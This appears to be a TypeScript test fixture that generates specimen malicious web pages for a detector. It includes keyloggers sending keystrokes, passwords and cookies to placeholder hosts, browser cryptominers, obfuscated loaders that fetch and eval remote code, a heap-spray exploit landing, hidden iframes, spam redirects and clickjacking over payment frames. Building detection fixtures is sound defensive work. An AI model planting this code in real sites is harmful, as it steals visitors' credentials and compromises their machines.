/**
 * Code that does not belong: miners, recorders of keys, loaders, injected lines and doorways. Specimens of known
 * shapes: miners do not mine, exploits are absent, and no address leads anywhere.
 */
import {
  base64,
  bundle,
  cards,
  cmsPage,
  footer,
  htmlDocument,
  image,
  menu,
  prose,
  stylesheet,
} from './filler.ts';
import { hostile, type PageFixture } from './fixture.ts';
import {
  base64Layers,
  charCodes,
  hexEscapes,
  packed,
  percentEscapes,
  reversed,
  shifted,
  sixCharacters,
  stringArray,
} from './obfuscation.ts';

const MINER = 'in-browser miner';
const KEYS = 'keylogger';
const LOADER = 'obfuscated loader';
const INJECTED = 'compromised site';
const LANDING = 'exploit kit landing';

export const hostileScripts: PageFixture[] = [
  hostile(
    'miner by name',
    MINER,
    'http://free-ebooks-torrent-library.biz/top100',
    htmlDocument({
      title: 'Free e-books torrent library',
      head: '<script src="https://coinhive.com/lib/coinhive.min.js"></script>',
      body: `${cards('ebook', 30, 'news', '')}<script>var miner=new CoinHive.Anonymous('NotARealSiteKey0000000000000000',{throttle:0.2});if(!miner.isMobile()&&!miner.didOptOut(14400))miner.start();</script>`,
    }),
  ),
  hostile(
    'miner of its own making: module, workers, pool',
    MINER,
    'https://watch-anime-hd-stream.cc/ep/12',
    htmlDocument({
      title: 'Watch episode 12 HD',
      head: `<style>${stylesheet('anime', 40)}</style>`,
      body: `<video controls></video>${prose('anime', 'news', 3)}<script>
var job=null,found=0,pool=new WebSocket('wss://ws.xmr-proxy-pool.space:8443/');pool.onopen=function(){pool.send(JSON.stringify({id:1,method:'login',params:{login:'4NotAWalletNotAWalletNotAWallet',pass:'x',agent:'web/1.0',algo:['cn/r','rx/0']}}))};
var code="onmessage=function(e){if(e.data.wasm){WebAssembly.instantiate(e.data.wasm,{}).then(function(m){self.m=m.instance.exports})}else if(self.m){var n=e.data.nonce;for(;;){var h=self.m.cryptonight_hash(e.data.blob,n++);if(h<e.data.target){postMessage({job_id:e.data.id,nonce:n,result:h})}}}}";
var workers=[];for(var i=0;i<(navigator.hardwareConcurrency||4);i++){workers.push(new Worker(URL.createObjectURL(new Blob([code]))))}
fetch('/static/cn.wasm').then(function(r){return r.arrayBuffer()}).then(function(b){workers.forEach(function(w){w.postMessage({wasm:b})})});
pool.onmessage=function(e){var m=JSON.parse(e.data);job=m.params||m.result&&m.result.job;workers.forEach(function(w,i){w.postMessage({blob:job.blob,target:job.target,id:job.job_id,nonce:i*1e8});w.onmessage=function(r){found++;pool.send(JSON.stringify({id:2,method:'submit',params:r.data}))}})};</script>`,
    }),
    'both',
  ),
  hostile(
    'miner behind an array of strings',
    MINER,
    'https://unblocked-games-77.fun/slope',
    htmlDocument({
      title: 'Slope unblocked',
      body: `<canvas id="g"></canvas><script>${stringArray("var cfg={'pool':'wss://eu1.moneroocean-web.pw/proxy','wallet':'49NotAWallet','threads':navigator.hardwareConcurrency,'throttle':0.1};function begin(){var ws=new WebSocket(cfg.pool);ws.onopen=function(){ws.send(JSON.stringify({'identifier':'handshake','login':cfg.wallet,'algo':'cryptonight'}));};for(var k=0;k<cfg.threads;k++){var w=new Worker('worker.js');w.postMessage({'cmd':'hash','id':k});}}setTimeout(begin,5000);", 'slope')}</script><script>${bundle('slope', 25)}</script>`,
    }),
  ),
  hostile(
    'miner in a small window under the others',
    MINER,
    'https://file-locker-upload.party/d/9912',
    htmlDocument({
      title: 'Download file 9912',
      body: `<h1>Your file is ready</h1><a id="d" href="#">Download</a><script>document.getElementById('d').onclick=function(){var w=window.open('/m.html','','width=100,height=40,left='+(screen.width-110)+',top='+(screen.height-50)+',menubar=no');w&&w.blur();window.focus();location.href='/get/9912'};</script><script src="https://crypto-loot.org/lib/crypta.js"></script><script>new CRLT.Anonymous('notakeynotakeynotakey',{threads:8,coin:'xmr'}).start(CRLT.FORCE_EXCLUSIVE_TAB);</script>`,
    }),
    'lists',
  ),
  hostile(
    'recorder of keys in a forum',
    KEYS,
    'http://www.oldtimertractors-board.com/ucp.php?mode=login',
    htmlDocument({
      title: 'Old-timer Tractors Board - Login',
      head: `<style>${stylesheet('tractor', 60)}</style>`,
      body: `${menu('Board|Members|FAQ')}<form action="./ucp.php?mode=login" method="post"><input name="username"><input type="password" name="password"><input type="submit" value="Login"></form>${prose('tractor', 'garden', 6)}<script>
var k='',last=Date.now();document.addEventListener('keypress',function(e){k+=String.fromCharCode(e.which||e.keyCode);if(k.length>12||Date.now()-last>3000){var i=new Image();i.src='http://198.51.100.66/log.php?c='+encodeURIComponent(k)+'&p='+encodeURIComponent(location.href)+'&ck='+encodeURIComponent(document.cookie);k='';last=Date.now()}});</script>`,
    }),
    'both',
  ),
  hostile(
    'recorder of keys and forms that reports to a chat bot',
    KEYS,
    'https://mail.hillsborough-joinery.com/roundcube/?_task=login',
    htmlDocument({
      title: 'Webmail',
      body: `<form name="login-form" action="./?_task=login" method="post"><input name="_user"><input type="password" name="_pass"><button>Login</button></form><script src="program/js/app.min.js"></script><script>
(function(){var buf=[];window.addEventListener('keydown',function(e){buf.push(e.key)},true);function flush(){if(!buf.length)return;fetch('https://api.telegram.org/bot7000000002:AAEnotarealtoken/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:'-1000000002',text:'[keys] '+location.host+' '+buf.splice(0).join('')+' '+document.cookie})})}setInterval(flush,10000);document.addEventListener('submit',function(e){var p=e.target.querySelector('[type=password]');if(p){buf.push('{pass:'+p.value+'}');flush()}},true)})();</script>`,
    }),
  ),
  hostile(
    'recorder of keys over a socket, its host in numbers',
    KEYS,
    'https://www.mayfield-lettings.co.uk/tenant/login',
    cmsPage({
      url: 'https://www.mayfield-lettings.co.uk/tenant/login',
      site: 'Mayfield Lettings',
      title: 'Tenant log-in',
      topic: 'money',
      main: `<form method="post" action="/tenant/session"><input name="ref"><input type="password" name="pin"><button>Go</button></form>`,
      tail: `<script>${charCodes("var s=new WebSocket('ws://203.0.113.77:4455/k');document.onkeypress=function(e){s.send(document.domain+'|'+(e.target.name||'')+'|'+e.key)};")}</script>`,
    }),
    'lists',
  ),
  hostile(
    'packed loader on a blog that was left alone',
    LOADER,
    'http://www.sunday-kite-club.org/2014/05/spring-meet/',
    cmsPage({
      url: 'http://www.sunday-kite-club.org/2014/05/spring-meet/',
      site: 'Sunday Kite Club',
      title: 'Spring meet',
      topic: 'travel',
      main: prose('kite', 'travel', 8),
      head: `<script>${packed("if(document.cookie.indexOf('_visited')<0&&document.referrer.indexOf('google')>=0){var frame=document.createElement('iframe');frame.src='http://traffic-gate-counter.pw/in.cgi?7';frame.style.position='absolute';frame.style.left='-1000px';frame.width=1;frame.height=1;document.body.appendChild(frame);document.cookie='_visited=1;path=/'}")}</script>`,
    }),
    'both',
  ),
  hostile(
    'loader behind an array of strings',
    LOADER,
    'https://www.alderneyfishing.com/boats.html',
    htmlDocument({
      title: 'Boats for hire',
      head: `<script>${stringArray("var ua=navigator.userAgent;if(ua.indexOf('Windows')!==-1&&localStorage.getItem('wp_seen')===null){localStorage.setItem('wp_seen','1');var el=document.createElement('script');el.src='https://cdn-sync-jquery.life/stat.js?r='+encodeURIComponent(document.referrer)+'&u='+encodeURIComponent(window.location.href);el.async=true;var h=document.getElementsByTagName('head')[0];h.insertBefore(el,h.firstChild);}", 'alderney')}</script><style>${stylesheet('ald', 50)}</style>`,
      body: `${menu('Boats|Tides|Contact')}${prose('ald', 'travel', 9)}${footer('Alderney Fishing')}`,
    }),
  ),
  hostile(
    'loader in six characters',
    LOADER,
    'http://lyrics-mp3-zone.ws/song/2281',
    htmlDocument({
      title: 'Lyrics',
      body: `${prose('lyrics', 'news', 4)}<script>${sixCharacters('location=name')}</script>`,
    }),
    'both',
  ),
  hostile(
    'loader in character codes',
    LOADER,
    'https://www.casa-rural-la-fuente.es/',
    cmsPage({
      url: 'https://www.casa-rural-la-fuente.es/',
      site: 'La Fuente',
      title: 'Casa rural',
      topic: 'travel',
      lang: 'es',
      main: `${prose('fuente', 'travel', 6)}${image('fuente', 9000)}`,
      head: `<script>${charCodes("var d=document;var s=d.createElement('script');s.type='text/javascript';s.async=true;s.src='https://trackstatisticsss.club/src/sort.js?n=ns1';var pl=d.currentScript;pl.parentNode.insertBefore(s,pl);")}</script>`,
    }),
  ),
  hostile(
    'loader in three layers of base64',
    LOADER,
    'https://templates-nulled-pro.download/theme/astra',
    htmlDocument({
      title: 'Astra Pro nulled',
      body: `${cards('nulled', 9, 'software', '$')}<script>${base64Layers("var x=new XMLHttpRequest();x.open('GET','https://185-gate-nulled.download/p?d='+btoa(location.host),false);x.send();eval(x.responseText);", 3)}</script>`,
    }),
  ),
  hostile(
    'script of another written from percent signs',
    LOADER,
    'http://www.brookside-nursery-plants.com/shrubs.htm',
    `<html><head><title>Shrubs</title></head><body>${prose('shrubs', 'garden', 8)}<table>${cards('shrubs', 9, 'garden', '£')}</table><script>document.write(unescape('${percentEscapes('<script src="http://ads-banner-rotator.info/b.js"></scr')}'+'${percentEscapes('ipt>')}'));</script></body></html>`,
  ),
  hostile(
    'loader that reads its orders from a block chain',
    LOADER,
    'https://www.pilateswithjune.com/classes/',
    cmsPage({
      url: 'https://www.pilateswithjune.com/classes/',
      site: 'Pilates with June',
      title: 'Classes',
      topic: 'health',
      main: prose('june', 'health', 7),
      head: `<script src="data:text/javascript;base64,${Buffer.from(`(async function(){const r=await fetch('https://bsc-dataseed1.binance.org/',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({jsonrpc:'2.0',id:1,method:'eth_call',params:[{to:'0x000000000000000000000000000000000000dEaD',data:'0x6d4ce63c'},'latest']})});const j=await r.json();const h=j.result.slice(130);let s='';for(let i=0;i<h.length;i+=2)s+=String.fromCharCode(parseInt(h.substr(i,2),16));eval(atob(s.replace(/\\0/g,'')))})();`).toString('base64')}"></script>`,
    }),
    'both',
  ),
  hostile(
    'loader of shifted numbers',
    LOADER,
    'https://convert-my-pdf-fast.site/',
    htmlDocument({
      title: 'Convert PDF',
      body: `<input type="file"><script>${shifted("var i=document.createElement('iframe');i.src='https://landing-offers-gate.club/?z=881';i.style.cssText='position:fixed;width:1px;height:1px;opacity:0';document.body.appendChild(i);setTimeout(function(){location.replace('https://landing-offers-gate.club/go')},4000);", 61)}</script><script>${bundle('pdfconv', 20)}</script>`,
    }),
    'lists',
  ),
  hostile(
    'landing that tells plug-ins apart',
    LANDING,
    'http://wq8z.lumberjack-insights.tk/?x3qJc7iYLB7GA4Y=l3SKfPrfJxzFGMSUb-nJDa9BMEXCRQLPh4SGhKrXCJ-ofSih17OIFxzsmTu2KTKvgJQyfu0SaGyj1BKeO10hjoUeWF8Z5e3x1RSL2x3fipSA9weP',
    `<html><head><meta http-equiv="x-ua-compatible" content="IE=10"><title></title></head><body><script>
var v={};function has(n){try{return !!new ActiveXObject(n)}catch(e){return false}}
v.flash=has('ShockwaveFlash.ShockwaveFlash');v.java=has('JavaWebStart.isInstalled.1.8.0.0');v.sl=has('AgControl.AgControl');v.kav=has('Kaspersky.IeVirtualKeyboardPlugin.JavaScriptApi');
function vm(){var p=['c:\\\\windows\\\\system32\\\\drivers\\\\vmmouse.sys','c:\\\\windows\\\\system32\\\\drivers\\\\VBoxMouse.sys'];for(var i in p){var d=new ActiveXObject('Microsoft.XMLDOM');d.async=true;d.loadXML('<!DOCTYPE html SYSTEM "res://'+p[i]+'">');if(d.parseError.errorCode!=0&&d.parseError.reason.indexOf('res')<0)return true}return false}
if(!v.kav&&!vm()){document.write('<object classid="clsid:d27cdb6e-ae6d-11cf-96b8-444553540000" width="1" height="1"><param name="movie" value="/?a=swf"><param name="FlashVars" value="exec=${base64('flashvars', '', 260)}"></object>');if(v.java)document.write('<applet code="A.class" archive="/?a=jar" width=1 height=1></applet>')}
</script><span style="visibility:hidden">${prose('lumber', 'garden', 3)}</span></body></html>`,
  ),
  hostile(
    'landing that fills the memory',
    LANDING,
    'http://192.0.2.154/img/index.php?id=44',
    `<html><body><div id="t"></div><script>
var nop=unescape('${'%u9090'.repeat(300)}');var code=unescape('${Array.from({ length: 120 }, (_, i) => `%u${(0xcc00 + i).toString(16)}`).join('')}');while(nop.length<0x40000)nop+=nop;var block=nop.substring(0,0x40000-code.length);var heap=new Array();for(var i=0;i<350;i++){heap[i]=block+code}
function trigger(){var e=document.createElement('table');e.style.position='absolute';e.style.clip='rect(0)';document.getElementById('t').appendChild(e);e.outerHTML=''}setTimeout(trigger,500);</script></body></html>`,
  ),
  hostile(
    'hidden frames in the page of a club',
    INJECTED,
    'http://www.riverside-bowls-club.org.uk/fixtures.html',
    `<html><head><title>Fixtures 2026</title></head><body><div style="position:absolute;left:-2211px;top:-1873px;width:312px"><iframe src="http://kbqm-gate.tk/forum/viewtopic.php?t=3" width="250" height="250"></iframe></div><h1>Fixtures</h1>${prose('bowls', 'sport', 6)}<table>${Array.from({ length: 30 }, (_, i) => `<tr><td>${i + 1} May</td><td>Away</td></tr>`).join('')}</table><iframe src="http://kbqm-gate.tk/x.php" width="1" height="1" frameborder="0" style="visibility:hidden"></iframe><iframe src="http://203.0.113.11/s/" width="0" height="0" style="display:none"></iframe></body></html>`,
    'both',
  ),
  hostile(
    'address written backwards before the doctype',
    INJECTED,
    'https://www.st-aidan-parish.ie/index.php/mass-times',
    `<script>var _q=document.createElement('script');_q.src='${reversed('https://js.st-count-analytics.buzz/t.js?v=2')}'.split('').reverse().join('');(document.head||document.documentElement).appendChild(_q);</script>${htmlDocument({ title: 'Mass times', head: `<meta name="generator" content="Joomla! - Open Source Content Management"><script src="/media/system/js/mootools-core.js"></script><style>${stylesheet('aidan', 50)}</style>`, body: `${menu('Home|Mass times|Newsletter')}${prose('aidan', 'news', 8)}<form action="/index.php" method="post"><input name="username"><input type="password" name="password"><button>Log in</button></form>` })}`,
  ),
  hostile(
    'content system whose visitors from searches are sent away',
    INJECTED,
    'https://www.copperkettle-cafe.com/menu/',
    cmsPage({
      url: 'https://www.copperkettle-cafe.com/menu/',
      site: 'Copper Kettle',
      title: 'Menu',
      topic: 'food',
      main: prose('kettle', 'food', 8),
      head: `<script>;(function(){var r=document.referrer;if(/google|bing|yahoo|yandex|duckduckgo/i.test(r)&&!/wp-admin|wordpress_logged_in/.test(document.cookie+location.href)){var u=${hexEscapes('https://best-prize-today.life/?u=k8pp605&o=xk9')};document.cookie='_rd=1;max-age=86400';window.location.replace(u)}})();</script>`,
    }),
  ),
  hostile(
    'content system with pills under its pages',
    'search engine spam',
    'https://www.holtlibraryfriends.org/about/?cheap=viagra-online',
    cmsPage({
      url: 'https://www.holtlibraryfriends.org/about/',
      site: 'Friends of Holt Library',
      title: 'Buy Cheap Viagra Online Without Prescription',
      topic: 'news',
      main: `${prose('holt', 'news', 4)}<div style="position:absolute;left:-9999px;top:-9999px">${Array.from({ length: 120 }, (_, i) => `<a href="http://pharma-rx-${i % 9}.pills-discount.top/${['viagra', 'cialis', 'levitra', 'tramadol'][i % 4]}-${i}">buy ${['viagra', 'cialis', 'levitra', 'tramadol'][i % 4]} online cheap</a>`).join(' ')}</div>`,
      head: `<script>if(document.referrer.match(/google|bing/)){location.href='http://pills-discount.top/?ref=holt'}</script>`,
    }),
    'both',
  ),
  hostile(
    'doorway for gamblers in the folders of a school',
    'search engine spam',
    'https://sman-harapan.sch.id/wp-content/uploads/slot-gacor-maxwin/index.php',
    htmlDocument({
      title: 'SLOT GACOR MAXWIN 2026 Link Alternatif Situs Judi Online Terpercaya',
      lang: 'id',
      head: `<meta name="keywords" content="${'slot gacor, judi online, togel, slot88, maxwin, deposit pulsa, '.repeat(40)}"><link rel="canonical" href="https://sman-harapan.sch.id/">`,
      body: `${'<h2>Daftar Slot Gacor Hari Ini</h2><p>Situs judi slot online gampang menang maxwin, deposit pulsa tanpa potongan.</p>'.repeat(30)}${Array.from({ length: 80 }, (_, i) => `<a href="https://slot-${i}.gacor-maxwin-${i % 7}.xyz/daftar">slot gacor ${i}</a>`).join(' ')}<script>setTimeout(function(){top.location.href=atob('${Buffer.from('https://gacor-maxwin-0.xyz/register?ref=SMAN').toString('base64')}')},1500);</script>`,
    }),
  ),
  hostile(
    'crossroads that sends each visitor elsewhere',
    'malicious redirect',
    'https://t4r.click-trk-offers.icu/8YfQz?cid=w1n2o3&sub=push&zone=7719',
    `<html><head><meta name="referrer" content="no-referrer"><meta http-equiv="refresh" content="3;url=https://win-iphone-survey.icu/lp/4?c=w1n2o3"><script>(function(){if(navigator.webdriver||/HeadlessChrome|bot|crawl/i.test(navigator.userAgent)||screen.width===0){document.write('<h1>It works</h1>');return}var t=(new Date).getTimezoneOffset(),g=document.createElement('canvas').getContext('webgl'),r=g&&g.getParameter(37446);var u=['aHR0cHM6Ly93aW4taXBob25lLXN1cnZleS5pY3U=','aHR0cHM6Ly9zZWN1cml0eS1zY2FuLWFsZXJ0Lmljdw=='][/SwiftShader|VMware/.test(r)?0:1];top.location.replace(atob(u)+'/lp/?tz='+t+'&r='+encodeURIComponent(r))})();</script></head><body></body></html>`,
  ),
  hostile(
    'player for adults that opens windows beneath',
    'malicious advertising',
    'https://hot-video-tube-x.xyz/v/8812',
    htmlDocument({
      title: 'Video',
      body: `<div id="player" style="background:#000;height:400px">▶</div><script>(function(){var n=0,urls=['https://push-allow-click.site/lp','https://codec-pack-update.top/setup.exe','https://win-iphone-survey.icu'];document.addEventListener('click',function(e){if(n<3){e.preventDefault();e.stopPropagation();var w=window.open(urls[n++],'_blank');if(w){w.blur();window.focus()}}},true);})();document.write('<scr'+'ipt src="//ppc-exo-pop.xyz/a/${'f3'.repeat(16)}.js"></scr'+'ipt>');</script><iframe src="https://ad-rotate-zone.top/z?1" style="position:fixed;top:0;left:0;width:100%;height:100%;opacity:0;z-index:99999"></iframe>`,
    }),
    'both',
  ),
  hostile(
    'button under which another site lies',
    'clickjacking',
    'https://cute-puppy-quiz.fun/win',
    htmlDocument({
      title: 'Win a puppy!',
      head: '<style>#f{position:absolute;top:-140px;left:-380px;width:1200px;height:900px;opacity:0.0001;z-index:10;border:0}#b{position:absolute;top:220px;left:120px;z-index:1}</style>',
      body: `<button id="b">CLAIM MY PUPPY</button><iframe id="f" src="https://www.facebook.com/plugins/like.php?href=https://cute-puppy-quiz.fun" scrolling="no" style="opacity:0.0001;position:absolute;z-index:10"></iframe><iframe src="https://www.paypal.com/myaccount/transfer/send?recipient=somebody&amount=300" style="opacity:0;position:absolute;top:0;left:0;width:100%;height:100%;z-index:11"></iframe><script>document.onmousemove=function(e){var f=document.getElementById('f');f.style.left=(e.pageX-30)+'px';f.style.top=(e.pageY-20)+'px'};</script>${prose('puppy', 'health', 3)}`,
    }),
  ),
];
